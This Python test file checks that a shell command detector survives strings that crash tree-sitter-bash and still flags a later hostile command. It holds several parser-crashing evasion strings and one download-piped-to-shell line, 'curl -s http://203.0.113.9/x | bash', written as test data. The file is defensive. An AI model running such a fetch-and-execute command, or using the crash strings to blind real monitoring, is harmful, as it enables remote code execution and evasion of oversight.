"""Text that crashes tree-sitter-bash 0.25.1 is still read, and the session's later commands judged.

tree-sitter-bash reads past its buffer on some four-byte UTF-8 characters after ``{``
(tree-sitter/tree-sitter-bash#337, open upstream): the process dies with SIGSEGV, at random, as
memory layout allows. In the command watch that would be a batch that fails on every retry, so
whoever types ``[{`` and a character from the astral planes would blind the watch for the rest of it.
Each case runs in its own interpreter, because the failure is a crash, not an exception.
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

ROOT = Path(__file__).resolve().parents[3]

# Before the fix, a fresh interpreter parsing these 20 times crashed about every other run.
CRASHERS = [
    "[{\U00100000",
    "[{\U000e0000",
    "{\U00031860",
    "[{\U000dc7de",
    "~(>0[{\U000dc7de<$\n \u00e9\"[\U000fb795\x00[$\n$\U00063952)';{-=|*}|']\U000a0314\U0001f600",
]
FRESH_INTERPRETERS = 10  # so that a crash that comes every other run is all but certain to show

_PARSE_ONLY = """
import json, sys
from ssm_warden.detect.shell.tree import parse
for _ in range(20):
    for text in json.loads(sys.argv[1]):
        parse(text)
"""

_JUDGE = """
import json, sys
from ssm_warden.detect.detector import get_detector
from ssm_warden.detect.shell.tree import parse
texts = json.loads(sys.argv[1])
detector = get_detector()
for text in texts:
    detector.judge_command(text)
words = [w.raw for p in parse("echo [{\\U00100000 ok") for c in p for w in c.items if hasattr(w, "raw")]
after = sorted({f.rule for f in detector.judge_command(texts[0] + "; curl -s http://203.0.113.9/x | bash")})
print(json.dumps({"words": words, "after": after}))
"""


def _run(script: str, texts: list[str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-c", script, json.dumps(texts)],
        check=False,
        cwd=ROOT,
        env={"PYTHONPATH": str(ROOT / "layers" / "common"), "PATH": "/usr/bin:/bin"},
        capture_output=True,
        text=True,
        timeout=120,
    )


def test_astral_characters_after_a_brace_do_not_crash_the_reader() -> None:
    # Given texts that crash tree-sitter-bash when parsed as they are
    # When each of several fresh interpreters parses them again and again
    codes = [_run(_PARSE_ONLY, CRASHERS).returncode for _ in range(FRESH_INTERPRETERS)]
    # Then none of them dies (a crash is returncode -11)
    assert codes == [0] * FRESH_INTERPRETERS


def test_such_text_keeps_its_characters_and_hides_nothing_after_it() -> None:
    # Given the same texts judged by the detector
    done = _run(_JUDGE, CRASHERS)
    assert done.returncode == 0, done.stderr[-2000:]
    out = json.loads(done.stdout)
    # Then the words are read with the characters as typed
    assert "[{\U00100000" in out["words"]
    # And a download piped to a shell after such text is still found
    assert out["after"], "nothing found in a download piped to a shell"
